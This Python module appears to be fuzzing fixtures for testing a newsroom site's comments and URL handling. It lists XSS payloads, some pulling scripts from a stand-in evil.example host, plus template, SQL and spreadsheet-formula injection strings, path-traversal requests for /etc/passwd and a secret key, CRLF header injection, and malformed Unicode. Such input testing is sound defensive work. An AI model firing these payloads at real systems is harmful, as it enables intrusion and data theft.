"""What is tried on every field: markup that must not live, templates that must not run, text that is none."""

from urllib.parse import quote

_SCRIPTS = ("alert(1)", "confirm`1`", "import('//evil.example/x.js')")
_EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onanimationstart")
_CARRIERS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "a href=#", "marquee")
_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript:alert(1)//https://example.org/",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://example.org/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "https:evil.example",
    "https://bank.example@evil.example/",
    'https://e.example/"onmouseover=alert(1) x="',
    "https://e.example/'onmouseover='alert(1)",
    "https://e.example/<script>alert(1)</script>",
)
_TAGS = (
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>Post comment</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<math href=javascript:alert(1)>x</math>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style=position:fixed;inset:0>x</p>",
    "<img src=x onerror=alert(1)//",
    "<img/src/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a href='https://e.example' target=_top rel=opener>x</a>",
    "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
    "<article id=comment-1 class=comment>fake</article>",
)
_MARKDOWN = (
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "**[x](javascript:alert(1))**",
    "> <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    '```html"onmouseover=alert(1)\n<script>alert(1)</script>\n```',
    "*<img src=x onerror=alert(1)>*",
    'https://e.example/*"onmouseover=alert(1)*',
    "https://e.example/?q=<script>alert(1)</script>&x=\"'",
    "https://e.example/](javascript:alert(1))",
    "# <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "\\<script\\>alert(1)\\</script\\>",
)

XSS = (
    *_TAGS,
    *_MARKDOWN,
    *(f"<script>{script}</script>" for script in _SCRIPTS),
    *(f"<{carrier} {event}=alert(1)>" for carrier in _CARRIERS for event in _EVENTS[:4]),
    *(f"<x {event}=alert(1)>" for event in _EVENTS),
    *(f"[x]({scheme})" for scheme in _SCHEMES),
    *_SCHEMES,
)

TEMPLATES = (
    "{{7*7}}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__.__mro__}",
    "%s%s%s%n%d",
    "%(password)s",
    "{pk}{name}{html}",
    "\\0 \\1 \\g<0>",
    "'; DROP TABLE comments_comment; --",
    "=cmd|'/c calc'!A1",
)

# Bytes as they stand in a percent-encoded form; what is none of UTF-8 comes out as U+FFFD.
BROKEN_BYTES = {
    "NUL": b"\x00",
    "high surrogate": b"\xed\xa0\x80",
    "low surrogate": b"\xed\xbf\xbf",
    "surrogate pair": b"\xed\xa0\xbd\xed\xb8\x80",
    "no UTF-8": b"\xff\xfe\x80",
    "cut short": b"\xf0\x9f\x98",
    "overlong slash": b"\xc0\xaf",
    "overlong bracket": b"\xe0\x80\xbc",
    "beyond Unicode": b"\xf4\x90\x80\x80",
    "UTF-16": "\ufeffscript".encode("utf-16"),
    "C1 controls": b"\x80\x85\x9f",
    "no character": "\ufffe\uffff\ufdd0".encode(),
    "byte order mark": b"\xef\xbb\xbf",
    "terminal": b"\x1b[31m\x1b]0;title\x07\x9b2J",
    "line breaks": b"\r\n\x0b\x0c\xe2\x80\xa8\xe2\x80\xa9\xc2\x85",
    "right to left": "\u202eevil\u2066\u2069\u202a".encode(),
    "zalgo": ("Z" + "\u0301\u0489\u0363" * 300).encode(),
    "joiners": ("a" + "\u200d\u200b\u2060" * 300).encode(),
    "flags and tags": ("🏴" + "\U000e0067\U000e007f" * 50).encode(),
    "hangul filler": "\u3164\u115f".encode(),
}

BLANK = {
    "nothing": "",
    "spaces": " \t\r\n\u3000\u2003",
    "zero width": "\u200b\u200c\u200d\u2060\ufeff" * 50,
    "fillers": "\u3164\u2800\u115f",
    "marks alone": "\u0301\u0302\u0489",
    "controls": "\x00\x01\x02\x7f",
    "bidi": "\u202e\u2066\u2069",
    "empty quotation": "> \n> ",
    "empty code": "```\n```",
}

# Targets and header values that no browser sends.
TARGETS = [
    *(f"/{part}/" for part in ("%00", "a%00b", "%ED%A0%80", "%FF%FE", "%C0%AF", "%E0%80%AF", "%0d%0aSet-Cookie:x=1")),
    *(f"/city/{part}/" for part in ("%00", "%ED%A0%80", "%F0%9F%98", "%1b%5b31m", "..%2f..%2fetc%2fpasswd")),
    *("/..%2f..%2fetc/passwd", "/static/..%2f..%2fsecret_key", "/static/%2e%2e/newsroom.sqlite3", "/media/%00"),
    *("/media/..%2fsecret_key", "/media//etc/passwd", "/media/%ED%A0%80", "/static/%ED%A0%80", "/admin/%00/"),
    *(f"/?{part}" for part in ("%00", "before=%00", "before=%ED%A0%80", "before=%FF", "x=" + "a" * 4_000, "&" * 4_000)),
    *(
        f"/comments/status/{part}/"
        for part in ("1-" + "A" * 22, "0" * 18 + "-" + "A" * 22, "%00", "９-" + quote("Ä" * 22))
    ),
    *(f"/{'a' * length}/" for length in (61, 300, 4_000)),
    *("//evil.example/", "/\\evil.example/", "/%5Cevil.example", "/;a.js", "/admin/x.css", "/admin/;a.js"),
]
ARTICLE_QUERIES = [
    f"{name}={value}"
    for name in ("comment", "thread", "before", "newer", "after", "parent")
    for value in (
        "%00",
        "%ED%A0%80",
        "-1",
        "0",
        "9" * 18,
        "9" * 40,
        "1e9",
        "%D9%A1",
        "1%27--",
        "1&" + name + "=2",
        "[]=1",
    )
] + ["comment[]=1", "thread=1&after=" + "9" * 18, "=", "%", "a" * 3_000]
FORWARDED = [
    "junk",
    "1.2.3.4, " * 900,
    "::1%eth0, [fe80::1%25eth0]:80",
    "999.999.999.999",
    "1.2.3.4:99999",
    "\u0661.\u0662",
    "unknown",
    ",,,,",
    "<script>alert(1)</script>",
    "0x7f000001",
]
